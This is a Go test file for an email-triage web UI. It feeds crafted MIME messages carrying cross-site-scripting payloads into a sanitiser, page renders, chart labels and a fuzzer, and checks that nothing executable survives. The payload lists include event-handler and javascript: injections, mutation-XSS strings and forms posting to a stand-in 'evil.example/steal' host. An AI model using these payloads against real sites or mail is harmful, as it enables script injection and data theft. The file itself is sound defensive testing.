package review

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/triage-dev/triage/cases"
	"github.com/triage-dev/triage/classify"
	"github.com/triage-dev/triage/dedupe"
	"github.com/triage-dev/triage/ingest"
	"github.com/triage-dev/triage/knowledge"
	"github.com/triage-dev/triage/store"
)

// xssMarker is what every payload tries to set; the browser test checks it stays unset.
const xssMarker = "window.__xss=1"

var htmlPayloads = []string{
	`<script>window.__xss=1</script>`,
	`<img src=x onerror="window.__xss=1">`,
	`<img src="https://tracker.example/pixel.gif" width=1 height=1>`,
	`<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>`,
	`<a href="javascript:window.__xss=1">click</a>`,
	`<a href="  JaVaScRiPt:window.__xss=1">click2</a>`,
	`<a href="jav&#x09;ascript:window.__xss=1">click3</a>`,
	`<iframe src="javascript:window.__xss=1"></iframe>`,
	`<iframe srcdoc="<script>window.__xss=1</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<style>body{background:url(https://tracker.example/bg)}</style>`,
	`<div style="background:url(https://tracker.example/s)">styled</div>`,
	`<form action="https://evil.example/steal"><input name=q><button formaction="javascript:window.__xss=1">go</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>`,
	`<details open ontoggle="window.__xss=1"><summary>x</summary></details>`,
	`<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">data</a>`,
	`<video><source onerror="window.__xss=1"></video>`,
	`<body onload="window.__xss=1">`,
	`<table background="https://tracker.example/t.gif"><tr><td>cell</td></tr></table>`,
	`<p>text <<script>script>window.__xss=1<</script>/script></p>`,
	`<input autofocus onfocus="window.__xss=1">`,
	`<template><script>window.__xss=1</script></template>`,
}

var textPayloads = []string{
	`<script>window.__xss=1</script>`,
	`"><img src=x onerror=window.__xss=1>`,
	`'><svg/onload=window.__xss=1>`,
	`</title><script>window.__xss=1</script>`,
	`{{.CSRF}} ${7*7} javascript:window.__xss=1`,
	"invoice\u202Efdp.exe",
}

// hostileMIME builds a message with payloads in the subject, the display
// name, the text and HTML bodies and an attachment name.
func hostileMIME(i int, payload string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "From: \"%s\" <attacker%d@evil.example>\r\n", strings.ReplaceAll(payload, `"`, `'`), i)
	fmt.Fprintf(&b, "To: support@example.com\r\nSubject: =?utf-8?B?%s?=\r\n", b64(payload))
	fmt.Fprintf(&b, "Message-ID: <hostile%d@evil.example>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n", i)
	b.WriteString("Content-Type: multipart/mixed; boundary=\"BOUND\"\r\n\r\n")
	b.WriteString("--BOUND\r\nContent-Type: multipart/alternative; boundary=\"ALT\"\r\n\r\n")
	b.WriteString("--ALT\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + payload + "\r\n")
	b.WriteString("--ALT\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Hello</p>" + strings.Join(htmlPayloads, "\n") + payload + "</body></html>\r\n")
	b.WriteString("--ALT--\r\n")
	fmt.Fprintf(&b, "--BOUND\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''%s\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n", pctEncode(payload+".pdf"))
	b.WriteString("--BOUND--\r\n")
	return []byte(b.String())
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func pctEncode(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// recordRaw parses raw with the ingest parser and records it as an escalated, classified message.
func recordRaw(t *testing.T, e *env, raw []byte, n int) int64 {
	t.Helper()
	sum := sha256.Sum256(raw)
	p, err := ingest.Parse(raw, hex.EncodeToString(sum[:]))
	if err != nil || p == nil {
		t.Logf("parse %d: %v (recorded unparsed)", n, err)
		p = &ingest.Parsed{}
	}
	return addMessage(t, e.st, seedMsg{subject: p.Subject, from: p.From, text: p.Text, html: p.HTML, attach: p.Attachments,
		classify: &classify.Result{Category: "OTHER", Priority: "low", Confidence: 0.3, Escalate: true, EscalationReason: "injection_suspected",
			Summary: p.Subject, Explanation: p.Text},
		dedupe: dedupe.Result{AmbiguousContact: true, AmbiguousWhy: p.From.Name, SenderName: p.From.Name, AccountContext: &dedupe.AccountContext{AccountName: p.Subject, Tier: p.Subject},
			Candidates: []dedupe.Candidate{{ContactID: "003000000000001AAA", Name: p.From.Name, Email: p.From.Addr, Why: p.Subject}}},
		knowledge: knowledge.Result{Articles: []knowledge.Match{{ArticleID: "ka1", Title: p.Subject, URL: "javascript:window.__xss=1", Snippet: p.Text}},
			KeyTerms: []string{p.Subject}},
		cases: cases.Result{CaseID: "500000000000001AAA", Action: p.Subject, CloseDenied: p.Subject, Detail: p.Text}})
}

// assertSafe fails when a page holds anything that could run script or load
// a remote resource: script/embedding elements, event-handler or style
// attributes, dangerous URL schemes, foreign forms, meta refreshes.
func assertSafe(t *testing.T, where, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		attr := map[string]string{}
		for _, a := range tok.Attr {
			attr[strings.ToLower(a.Key)] = a.Val
			k := strings.ToLower(a.Key)
			if strings.HasPrefix(k, "on") || k == "style" || k == "srcdoc" || k == "formaction" || k == "background" {
				t.Errorf("%s: <%s> carries attribute %s=%q", where, tok.Data, a.Key, a.Val)
			}
			if k == "href" || k == "src" || k == "action" || k == "xlink:href" || k == "data" || k == "cite" {
				v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				for _, bad := range []string{"javascript:", "data:", "vbscript:"} {
					if strings.HasPrefix(v, bad) {
						t.Errorf("%s: <%s %s=%q>", where, tok.Data, a.Key, a.Val)
					}
				}
			}
		}
		switch tok.Data {
		case "script", "iframe", "frame", "frameset", "object", "embed", "applet", "img", "video", "audio", "source", "style", "base", "svg", "math", "template", "input":
			if tok.Data == "input" && ownInputs[attr["name"]] {
				continue // the UI's own form fields
			}
			t.Errorf("%s: <%s> element reached the page: %v", where, tok.Data, tok.Attr)
		case "link":
			if attr["href"] != "/static/style.css" {
				t.Errorf("%s: foreign <link> %v", where, tok.Attr)
			}
		case "meta":
			if _, ok := attr["http-equiv"]; ok {
				t.Errorf("%s: <meta http-equiv> %v", where, tok.Attr)
			}
		case "form":
			if a := attr["action"]; !strings.HasPrefix(a, "/") || strings.HasPrefix(a, "//") {
				t.Errorf("%s: foreign form action %q", where, a)
			}
		case "a":
			if h := attr["href"]; strings.HasPrefix(h, "http") && !strings.Contains(attr["rel"], "noopener") && !strings.Contains(attr["rel"], "noreferrer") {
				t.Errorf("%s: external link without rel=noopener/noreferrer: %v", where, tok.Attr)
			}
		}
	}
}

// ownInputs are the UI's own form fields; an email cannot add any (the sanitiser drops forms).
var ownInputs = map[string]bool{"csrf": true, "next": true, "note": true, "reason": true, "contact_id": true, "article": true, "escalate": true,
	"other": true, "category": true, "q": true, "message": true, "actor": true, "action": true, "stage": true, "kind": true, "tab": true,
	"username": true, "password": true}

func TestHostileRendering(t *testing.T) {
	e := newEnv(t, true)
	c := e.client().mustLogin("admin1")
	var ids []int64
	for i, p := range textPayloads {
		ids = append(ids, recordRaw(t, e, hostileMIME(i, p), i))
	}
	// enmime's test corpus: malformed MIME, odd charsets, inline HTML, attachments.
	dir := enmimeTestdata(t)
	files, _ := filepath.Glob(filepath.Join(dir, "*", "*.raw"))
	more, _ := filepath.Glob(filepath.Join(dir, "*.raw"))
	files = append(files, more...)
	if len(files) < 50 {
		t.Fatalf("only %d enmime testdata files found in %s", len(files), dir)
	}
	for i, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, recordRaw(t, e, raw, 1000+i))
	}
	// A dead and a skipped hostile message for the other lists.
	addMessage(t, e.st, seedMsg{subject: textPayloads[0], from: ingest.Address{Name: textPayloads[1], Addr: "x@evil.example"}, text: textPayloads[0],
		classify: &classify.Result{Category: "<b>bold</b>"}, final: store.StateDead, reason: "<script>window.__xss=1</script>"})
	addMessage(t, e.st, seedMsg{subject: textPayloads[1], from: ingest.Address{Addr: "y@evil.example"}, final: store.StateSkipped, reason: `"><svg onload=window.__xss=1>`})

	rendered := 0
	for _, id := range ids {
		for _, q := range []string{"", "?view=text"} {
			p := fmt.Sprintf("/messages/%d%s", id, q)
			resp, body := c.get(p)
			if resp.StatusCode != 200 {
				t.Fatalf("%s: %s", p, resp.Status)
			}
			assertSafe(t, p, body)
			rendered++
		}
	}
	for _, p := range []string{"/", "/escalations", "/messages", "/dead", "/skipped", "/audit?tab=events", "/gaps", "/corrections"} {
		_, body := c.get(p)
		if p == "/" {
			// The dashboard's own SVG charts are allowed; check they hold no markup from data.
			body = stripOwnSVG(body)
		}
		assertSafe(t, p, body)
	}
	// The payload text itself must appear only escaped.
	_, body := c.get(fmt.Sprintf("/messages/%d", ids[0]))
	if strings.Contains(body, "<script>window") || !strings.Contains(body, "&lt;script&gt;window.__xss=1&lt;/script&gt;") {
		t.Fatal("subject payload not shown escaped")
	}
	if strings.Contains(body, "\u202E") {
		t.Fatal("bidi override reached the page")
	}
	t.Logf("rendered %d hostile message pages (%d enmime testdata files)", rendered, len(files))
}

func stripOwnSVG(page string) string {
	var b strings.Builder
	for {
		i := strings.Index(page, `<svg class="chart"`)
		if i < 0 {
			b.WriteString(page)
			return b.String()
		}
		b.WriteString(page[:i])
		j := strings.Index(page[i:], "</svg>")
		svg := page[i : i+j]
		// Inside our charts only these elements exist.
		z := html.NewTokenizer(strings.NewReader(svg))
		for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
			if tt == html.StartTagToken || tt == html.SelfClosingTagToken {
				switch name, _ := z.TagName(); string(name) {
				case "svg", "title", "line", "text", "rect", "circle", "polyline":
				default:
					b.WriteString("<script>unexpected element in a chart: " + string(name) + "</script>")
				}
			}
		}
		page = page[i+j+len("</svg>"):]
	}
}

func enmimeTestdata(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/jhillyerd/enmime/v2").Output()
	if err != nil {
		t.Skipf("enmime module not available: %v", err)
	}
	return filepath.Join(strings.TrimSpace(string(out)), "testdata")
}

func TestSanitizer(t *testing.T) {
	for _, p := range htmlPayloads {
		out := sanitizeEmailHTML(p)
		if strings.Contains(out, xssMarker) && (strings.Contains(out, "<script") || strings.Contains(out, "on")) {
			assertSafe(t, p, out)
		}
		assertSafe(t, p, out)
		if strings.Contains(out, "tracker.example") {
			t.Errorf("remote load survived: %q → %q", p, out)
		}
	}
	if got := sanitizeEmailHTML(`<p>Hi <b>there</b> <a href="https://example.com/x">link</a></p>`); !strings.Contains(got, "<b>there</b>") ||
		!strings.Contains(got, `href="https://example.com/x"`) || !strings.Contains(got, "noreferrer") {
		t.Fatalf("benign markup mangled: %s", got)
	}
}

func TestChartsEscapeLabels(t *testing.T) {
	evil := `<script>window.__xss=1</script>`
	for name, svg := range map[string]string{
		"stacked": string(stackedBars(evil, []string{evil}, []string{evil}, func(string, string) int { return 3 })),
		"hbars":   string(hbars(evil, []string{evil}, []float64{2}, func(f float64) string { return evil })),
		"line":    string(lineChart(evil, []string{evil, "b"}, []string{evil}, [][]float64{{0.5, 0.7}})),
	} {
		if strings.Contains(svg, "<script") || !strings.Contains(svg, "&lt;script&gt;") {
			t.Errorf("%s chart does not escape labels: %s", name, svg)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, p := range htmlPayloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := sanitizeEmailHTML(s)
		z := html.NewTokenizer(strings.NewReader(out))
		for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
			if tt == html.StartTagToken || tt == html.SelfClosingTagToken {
				name, _ := z.TagName()
				switch string(name) {
				case "script", "img", "iframe", "style", "object", "embed", "svg", "math", "base", "meta", "link", "form", "input":
					t.Fatalf("%q → %q keeps <%s>", s, out, name)
				}
				for {
					k, v, more := z.TagAttr()
					key := strings.ToLower(string(k))
					if strings.HasPrefix(key, "on") || key == "style" || key == "src" {
						t.Fatalf("%q → %q keeps %s=%q", s, out, k, v)
					}
					if !more {
						break
					}
				}
			}
		}
	})
}
